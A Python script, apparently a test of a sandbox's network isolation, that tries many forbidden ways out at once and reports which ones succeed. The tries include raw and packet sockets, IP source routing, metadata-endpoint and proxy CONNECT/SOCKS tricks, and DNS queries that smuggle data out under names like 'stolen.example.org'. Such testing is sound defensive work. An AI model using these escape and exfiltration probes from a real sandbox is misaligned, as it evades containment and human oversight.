# Tries every way out that is not allowed, all at once. Prints a line of JSON for each try: what it
# was, and what became of it. An answer, or a packet that the kernel took, is one that got out.
import json
import socket
import struct
import sys
import threading

told = json.loads(sys.argv[1])
gateway, outside, resolver, outside6 = told["gateway"], told["outside"], told["resolver"], told["outside6"]
HOSTS = [outside, resolver, gateway] + told["others"] + ["169.254.169.254", "169.254.1.2", "10.0.2.2", "10.0.2.3"]
ALLOWED = {(gateway, 53), (gateway, 1080), (gateway, 3128)}
# Long, so that nothing but silence is taken for it.
LIMIT = told["limit"]
tries = []


def attempt(name):
    def add(function):
        tries.append((name, function))
        return function

    return add


def tcp(family, host, port, options=None):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(LIMIT)
        if options:
            s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, options)
        s.connect((host, port))
        return "connected"


def send(family, kind, protocol, host, port, data=b"x", options=()):
    """What is sent in vain is refused by the kernel at once; silence is no refusal."""
    with socket.socket(family, kind, protocol) as s:
        s.settimeout(LIMIT)
        for option in options:
            s.setsockopt(*option)
        s.sendto(data, (host, port))
        return "sent"


def fast_open(host, port):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
        # With a timeout of Python's it would not wait for the answer.
        s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, struct.pack("ll", LIMIT, 0))
        s.sendto(b"x", socket.MSG_FASTOPEN, (host, port))
        return "sent"


def question(name, kind):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + struct.pack(">BHH", 0, kind, 1)


def ask(name, kind):
    """The gateway answers; only that the name exists would be an answer."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(LIMIT)
        s.sendto(question(name, kind), (gateway, 53))
        answer = s.recv(512)
        code, count = answer[3] & 15, struct.unpack(">H", answer[6:8])[0]
        if count:
            return f"{count} answers"
        raise OSError(f"no answer, code {code}")


def proxy(target):
    with socket.create_connection((gateway, 3128), LIMIT) as s:
        s.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
        said = s.recv(200).split(b"\r\n")[0].decode()
        if " 200 " in said:
            return said
        raise OSError(said)


def socks(host, port):
    with socket.create_connection((gateway, 1080), LIMIT) as s:
        s.sendall(b"\5\1\0" + b"\5\1\0\1" + socket.inet_aton(host) + struct.pack(">H", port))
        said = s.recv(2)
        while len(said) < 4:
            piece = s.recv(9)
            if not piece:
                break
            said += piece
        if said[3:4] == b"\0":
            return "connected"
        raise OSError(f"code {said[3:4]}")


for host in HOSTS:
    for port in (22, 53, 80, 123, 443, 5353, 8080):
        if (host, port) in ALLOWED or [host, port] in told["direct"]:
            continue
        attempt(f"tcp {host}:{port}")(lambda host=host, port=port: tcp(socket.AF_INET, host, port))
    for port in (53, 123, 443, 4500):
        if (host, port) not in ALLOWED:
            attempt(f"udp {host}:{port}")(
                lambda host=host, port=port: send(socket.AF_INET, socket.SOCK_DGRAM, 0, host, port)
            )
    echo = struct.pack(">BBHHH", 8, 0, 0, 1, 1)
    attempt(f"ping {host}")(
        lambda host=host, echo=echo: send(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP, host, 0, echo)
    )
for port in (443, 53):
    attempt(f"tcp6 {port}")(lambda port=port: tcp(socket.AF_INET6, outside6, port))
    attempt(f"udp6 {port}")(lambda port=port: send(socket.AF_INET6, socket.SOCK_DGRAM, 0, outside6, port))
    attempt(f"mapped {port}")(lambda port=port: tcp(socket.AF_INET6, f"::ffff:{outside}", port))
attempt("ping6")(
    lambda: send(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6, outside6, 0, b"\x80\0\0\0\0\1\0\1")
)
attempt("multicast")(lambda: send(socket.AF_INET, socket.SOCK_DGRAM, 0, "224.0.0.251", 5353))
attempt("multicast6")(lambda: send(socket.AF_INET6, socket.SOCK_DGRAM, 0, "ff02::fb%eth0", 5353))
broadcast = (socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
attempt("broadcast")(
    lambda: send(socket.AF_INET, socket.SOCK_DGRAM, 0, "255.255.255.255", 67, options=[broadcast])
)
attempt("udp to the proxy's port")(lambda: send(socket.AF_INET, socket.SOCK_DGRAM, 0, gateway, 3128))
attempt("udplite")(lambda: send(socket.AF_INET, socket.SOCK_DGRAM, 136, outside, 53))
attempt("raw")(lambda: send(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP, outside, 0))
attempt("raw ip")(lambda: send(socket.AF_INET, socket.SOCK_RAW, 255, outside, 0))
attempt("packet")(lambda: send(socket.AF_PACKET, socket.SOCK_RAW, 0x300, "eth0", 0))
# A loose source route: the header names the gateway, the options name who is meant.
route = bytes([131, 7, 4]) + socket.inet_aton(outside) + b"\0"
attempt("source route")(lambda: tcp(socket.AF_INET, gateway, 3128, route))
attempt("fast open")(lambda: fast_open(outside, 443))
# Data in names: below the parent of an allowed suffix, and of no kind that is answered.
for name, kind in [
    ("stolen.example.org", 1),
    ("c3RvbGVu.x.example.org", 16),
    ("stolen.org", 1),
    ("stolen.a.example.org", 1),
    ("a.example.org", 16),
    ("a.example.org", 255),
]:
    attempt(f"dns {name} {kind}")(lambda name=name, kind=kind: ask(name, kind))
for target in [
    f"{outside}:443",
    f"{outside}:80",
    f"{told['others'][0]}:80",
    "169.254.169.254:443",
    "10.0.2.15:22",
    "127.0.0.1:443",
    f"{gateway}:3128",
    f"[{outside6}]:443",
    f"[::ffff:{outside}]:443",
    "localhost:443",
    "host.containers.internal:443",
    "stolen.example.org:443",
    "a.example.org:80",
]:
    attempt(f"proxy {target}")(lambda target=target: proxy(target))
for host, port in [(outside, 443), (told["others"][0], 80), ("127.0.0.1", 53), ("169.254.169.254", 80), ("10.0.2.15", 22)]:
    attempt(f"socks {host}:{port}")(lambda host=host, port=port: socks(host, port))


found = []


def run(name, function):
    try:
        result = {"out": function()}
    except (TimeoutError, BlockingIOError):
        result = {"silence": True}
    except OSError as error:
        result = {"refused": str(error)}
    found.append({"try": name} | result)


threads = [threading.Thread(target=run, args=one) for one in tries]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join()
for one in found:
    print(json.dumps(one))
